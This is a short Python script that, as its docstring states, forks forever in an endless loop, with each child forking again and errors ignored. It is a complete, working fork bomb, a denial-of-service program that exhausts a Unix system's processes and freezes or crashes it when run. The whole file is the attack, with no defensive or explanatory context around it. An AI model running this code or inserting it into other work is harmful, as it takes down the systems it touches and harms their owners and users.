"""Forks for ever, and its children fork for ever."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
